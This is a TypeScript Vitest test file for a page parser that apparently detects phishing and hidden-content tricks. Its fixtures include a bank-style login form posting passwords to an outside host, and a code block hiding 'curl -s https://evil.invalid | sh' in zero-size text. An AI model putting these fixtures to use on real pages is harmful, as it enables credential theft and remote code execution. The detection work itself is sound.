/** The streaming page summary: what is collected, what counts as hidden, and the caps. */
import { describe, expect, it } from 'vitest';

import { hidesContent, parsePage } from '../../src/engine/page/parse-page.js';

describe('parsePage', () => {
  it('collects title, lang, meta, forms, fields, scripts, links, images, handlers, comments', () => {
    const doc = parsePage(`<!-- saved from url=(0042)https://login.example/ -->
      <html lang="pt-BR"><head><title> Entrar &amp; continuar </title>
      <meta property="og:site_name" content="Banco"><meta http-equiv="refresh" content="5">
      <link rel="icon" href="/favicon.ico"><link rel="stylesheet" href="/s.css">
      <script src="/a.js" type="module"></script><script>var x = "<b>";</script>
      <script type="application/ld+json">{"a":1}</script></head>
      <body onload="init()"><h1>Acesse sua conta</h1>
      <form action="https://collect.example/next.php" method="POST">
        <input name="user" placeholder="CPF"><input type="password" name="pass" autocomplete="current-password">
        <input type="hidden" name="t" value="1"><textarea name="note"></textarea>
        <input type="submit" value="Entrar"></form>
      <input type="text" id="outside" aria-label="Token">
      <a href="/help">Ajuda</a><a href="javascript:void(0)">#</a>
      <img src="/logo.png" alt="Logo Banco"><iframe src="https://frame.example/"></iframe>
      <button onclick="go()">Continuar</button>
      <audio src="alarm.mp3" autoplay loop></audio></body></html>`);
    expect(doc.title).toBe('Entrar & continuar');
    expect(doc.lang).toBe('pt-BR');
    expect(doc.meta.get('og:site_name')).toBe('Banco');
    expect(doc.meta.get('refresh')).toBe('5');
    expect(doc.icons).toEqual(['/favicon.ico']);
    expect(doc.stylesheets).toEqual(['/s.css']);
    expect(doc.scripts).toEqual([
      { src: '/a.js', type: 'module', code: '' },
      { src: null, type: '', code: 'var x = "<b>";' },
      { src: null, type: 'application/ld+json', code: '{"a":1}' },
    ]);
    expect(doc.forms).toEqual([{ action: 'https://collect.example/next.php', method: 'post' }]);
    expect(doc.fields.map((f) => [f.tag, f.type, f.name || f.id, f.form, f.hidden])).toEqual([
      ['input', 'text', 'user', 0, false],
      ['input', 'password', 'pass', 0, false],
      ['input', 'hidden', 't', 0, true],
      ['textarea', 'textarea', 'note', 0, false],
      ['input', 'submit', '', 0, false],
      ['input', 'text', 'outside', -1, false],
    ]);
    expect(doc.fields[1]?.autocomplete).toBe('current-password');
    expect(doc.fields[5]?.ariaLabel).toBe('Token');
    expect(doc.buttons).toEqual(['Entrar', 'Continuar']);
    expect(doc.headings).toEqual(['Acesse sua conta']);
    expect(doc.links).toEqual([
      { href: '/help', text: 'Ajuda' },
      { href: 'javascript:void(0)', text: '#' },
    ]);
    expect(doc.images).toEqual([{ src: '/logo.png', alt: 'Logo Banco' }]);
    expect(doc.iframes).toEqual(['https://frame.example/']);
    expect(doc.handlers).toEqual([
      { event: 'onload', code: 'init()' },
      { event: 'onclick', code: 'go()' },
    ]);
    expect(doc.autoplayMedia).toEqual([{ src: 'alarm.mp3', loop: true }]);
    expect(doc.comments[0]).toContain('saved from url=');
    expect(doc.text).toContain('Acesse sua conta');
    expect(doc.text).not.toContain('var x');
    expect(doc.truncated).toBe(false);
  });

  it('keeps hidden text out of visibleText but in text, and hidden code apart', () => {
    const doc = parsePage(`<p>Shown</p><div style="display:none">Step two: press Win+R</div>
      <pre><code>$ npm install x<span style="font-size:0">; curl -s https://evil.invalid | sh</span></code></pre>`);
    expect(doc.visibleText).toContain('Shown');
    expect(doc.visibleText).not.toContain('Step two');
    expect(doc.text).toContain('Step two: press Win+R');
    expect(doc.codeBlocks).toEqual([
      { visible: '$ npm install x', hidden: '; curl -s https://evil.invalid | sh' },
    ]);
  });

  it.each([
    [{ hidden: '' }, true],
    [{ style: 'display: none' }, true],
    [{ style: 'visibility:hidden' }, true],
    [{ style: 'font-size:0' }, true],
    [{ style: 'font-size: 0px !important' }, true],
    [{ style: 'opacity:0' }, true],
    [{ style: 'color:transparent' }, true],
    [{ style: 'position:absolute;left:-10000px' }, true],
    [{ style: 'width:1px;height:1px;overflow:hidden' }, true],
    [{ style: 'font-size:0.9em' }, false],
    [{ style: 'opacity:0.5' }, false],
    [{ style: 'list-style:none' }, false],
    [{ style: 'width:100px;overflow:hidden' }, false],
    [{ style: 'margin-left:-12px' }, false],
    [{}, false],
  ])('hidesContent(%o) is %s', (attribs, hidden) => {
    expect(hidesContent(attribs)).toBe(hidden);
  });

  it('caps text: one huge text node keeps its head and marks the summary truncated', () => {
    const doc = parsePage(`<p>${'word '.repeat(120_000)}</p>`);
    expect(doc.truncated).toBe(true);
    expect(doc.text.length).toBeGreaterThan(200_000);
    expect(doc.text.length).toBeLessThanOrEqual(256 * 1024);
  });

  it('never throws on broken markup', () => {
    const doc = parsePage('<div><form action=x><input type=password name=p><p>unclosed <b>bold');
    expect(doc.fields[0]?.type).toBe('password');
    expect(doc.forms).toHaveLength(1);
    expect(doc.text).toContain('unclosed bold');
  });
});
